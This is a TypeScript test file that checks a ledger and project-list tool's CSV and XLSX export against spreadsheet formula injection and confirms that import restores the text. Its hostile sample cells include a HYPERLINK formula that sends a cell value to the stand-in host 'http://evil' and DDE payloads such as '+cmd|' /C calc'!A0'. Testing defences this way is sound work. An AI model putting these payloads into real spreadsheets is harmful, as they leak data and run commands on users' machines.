// Formula injection: a cell text someone typed into a report or a project list must reach the
// spreadsheet as text. CSV cells that Excel would run as a formula get a leading ' (OWASP); the
// import takes that quote off again; XLSX writes strings as strings, never as formulas.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import type { LedgerBook, SheetTable } from '../../src/core/ledger/ledger-table.ts';
import type { ProjectListEntry } from '../../src/core/ledger/load-project-list.ts';
import { parseProjectTable } from '../../src/core/rules/project-list.ts';
import { parseCsv, readTable, readTableFile } from '../../src/io/read-table.ts';
import { csvField, neutralizeFormula, toCsv, writeTableCsv } from '../../src/io/write-csv.ts';
import { HEADER_ROW, writeLedgerXlsx } from '../../src/io/write-ledger-xlsx.ts';
import { writeProjectList } from '../../src/io/write-project-list.ts';

/** The raw fields of a CSV text (RFC 4180, no trimming, no unescaping), to see what Excel would see. */
function rawFields(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

const dir = mkdtempSync(join(tmpdir(), 'csv-injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HYPERLINK = '=HYPERLINK("http://evil"&B5,"详情")';
const CMD = "+cmd|' /C calc'!A0";
/** Every way a cell can start a formula in Excel, LibreOffice or WPS. */
const HOSTILE = [HYPERLINK, CMD, '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1', '-', '--1', '-1-1', "'=already quoted"];

describe('neutralizeFormula', () => {
  it('prefixes every cell that starts with = + - @ tab or CR', () => {
    expect(neutralizeFormula(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(neutralizeFormula(CMD)).toBe(`'${CMD}`);
    expect(neutralizeFormula('-2+3')).toBe("'-2+3");
    expect(neutralizeFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralizeFormula('\t=1')).toBe("'\t=1");
    expect(neutralizeFormula('\r=1')).toBe("'\r=1");
    expect(neutralizeFormula('+12')).toBe("'+12");
    // A text that already starts with the escape quote gets one more, so the import gives it back as it was.
    expect(neutralizeFormula("'=x")).toBe("''=x");
    expect(neutralizeFormula("''-x")).toBe("'''-x");
  });

  it('leaves numbers, percentages and ordinary text alone', () => {
    for (const value of ['-0.5', '-12.5', '-3%', '-3.0%', '-28645.000001', '-1,234.5', '0', '12', '3.5%', '县医院', 'a=b', "it's", "'quoted", '', ' padded']) {
      expect(neutralizeFormula(value)).toBe(value);
    }
  });

  it('is applied to every CSV field, quoting included', () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil""&B5,""详情"")"`);
    expect(csvField(CMD)).toBe(`'${CMD}`);
    expect(csvField('\t=1')).toBe(`'\t=1`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(toCsv([['-0.5', '=1+1', '-3%']])).toBe("\uFEFF-0.5,'=1+1,-3%\r\n");
  });
});

function table(texts: string[]): SheetTable {
  return {
    name: '周报',
    title: '台账',
    subtitle: '',
    columns: [
      { header: '本周进展', width: 30, align: 'left' },
      { header: '本周完成投资(万元)', width: 12, align: 'right' },
      { header: '完成率', width: 10, align: 'right' },
    ],
    rows: texts.map((text) => ({
      style: 'data' as const,
      cells: [
        { kind: 'text' as const, text },
        { kind: 'money' as const, fen: -50_000_000n },
        { kind: 'percent' as const, value: -0.03, digits: 0 as const },
      ],
    })),
  };
}

describe('the ledger', () => {
  it('writes a hostile 本周进展 as text in the CSV, and amounts and percentages as numbers', async () => {
    const path = join(dir, 'ledger.csv');
    await writeTableCsv(table(HOSTILE), path);
    const csv = readFileSync(path, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil""&B5,""详情"")",-50,-3%\r\n`);
    expect(csv).toContain(`'${CMD},-50,-3%\r\n`);
    // No record has a field that starts a formula.
    const records = rawFields(csv.slice(1)).slice(1);
    expect(records.map((r) => r[0])).toEqual(HOSTILE.map((t) => `'${t}`));
    for (const record of records) expect(record.slice(1)).toEqual(['-50', '-3%']);
  });

  it('writes hostile texts into the XLSX as strings, not formulas', async () => {
    const path = join(dir, 'ledger.xlsx');
    const book: LedgerBook = { sheets: [table(HOSTILE)], footer: '' };
    await writeLedgerXlsx(book, path);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path);
    const sheet = wb.worksheets[0]!;
    HOSTILE.forEach((text, i) => {
      const cell = sheet.getRow(HEADER_ROW + 1 + i).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML turns a CR into a line feed on reading; the text is otherwise what was written.
      expect(cell.value).toBe(text.replace(/\r/g, '\n'));
      expect(sheet.getRow(HEADER_ROW + 1 + i).getCell(2).value).toBe(-50);
    });
  });
});

function entry(code: string, text: string): ProjectListEntry {
  return {
    code,
    name: `项目${code}${text}`,
    location: text,
    scope: text,
    totalInvestment: 1_000_000n,
    annualPlan: -500_000n,
    unit: '县人民医院',
    leader: '王主任',
    leaderHints: {},
    owner: '张科长',
    ownerHints: { mobile: '+8613800138000' },
    note: text,
  };
}

describe('the project list', () => {
  const entries = HOSTILE.map((text, i) => entry(String(i + 1), text));

  it('exports hostile cells as text in the CSV and re-imports them unchanged', async () => {
    const path = join(dir, 'projects.csv');
    await writeProjectList(entries, path, { format: 'csv', sheetName: '项目清单' });
    const csv = readFileSync(path, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil""&B5,""详情"")"`);
    expect(csv).toContain(`,'${CMD},`);
    expect(csv).toContain(',1,-0.5,');
    for (const record of rawFields(csv.slice(1))) for (const field of record) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);

    const back = await readTableFile(path);
    entries.forEach((e, i) => {
      const row = back[i + 1]!;
      // The reader trims cells: compare with the trimmed texts.
      expect([row[2], row[3], row[9], row[5], row[12]]).toEqual([e.location.trim(), e.scope.trim(), e.note.trim(), '-0.5', '+8613800138000']);
    });
  });

  it('exports hostile cells as strings in the XLSX', async () => {
    const path = join(dir, 'projects.xlsx');
    await writeProjectList(entries, path, { format: 'xlsx', sheetName: '项目清单' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path);
    const sheet = wb.worksheets[0]!;
    entries.forEach((e, i) => {
      for (const c of [3, 4, 10]) {
        const cell = sheet.getRow(i + 2).getCell(c);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(cell.value).toBe(e.location.replace(/\r/g, '\n'));
      }
    });
    const back = await readTableFile(path);
    expect(back.slice(1).map((row) => row[2])).toEqual(HOSTILE.map((t) => t.trim()));
  });

  it('takes off the quote the CSV export put in front of = + - @; a workbook (written as is) keeps its texts', async () => {
    expect(parseCsv("'=1+1,'+1,'-x,'@a,'-3,'x,''=y,a'=b")).toEqual([['=1+1', '+1', '-x', '@a', '-3', "'x", "'=y", "a'=b"]]);
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('清单').addRow(['项目名称', "'=1+1", "'x"]);
    expect(await readTable(Buffer.from(await wb.xlsx.writeBuffer()), 'list.xlsx')).toEqual([['项目名称', "'=1+1", "'x"]]);
  });

  it('round-trips a list with hostile names through the project-list reader', async () => {
    const path = join(dir, 'roundtrip.csv');
    const list = [entry('1', '=HYPERLINK("http://evil","x")'), entry('2', '-甲'), entry('3', '@乙')].map((e) => ({ ...e, annualPlan: 500_000n }));
    await writeProjectList(list, path, { format: 'csv', sheetName: '项目清单' });
    const parsed = parseProjectTable(await readTableFile(path));
    expect(parsed.rows.map((r) => [r.name, r.location, r.note])).toEqual(list.map((e) => [e.name, e.location, e.note]));
  });
});
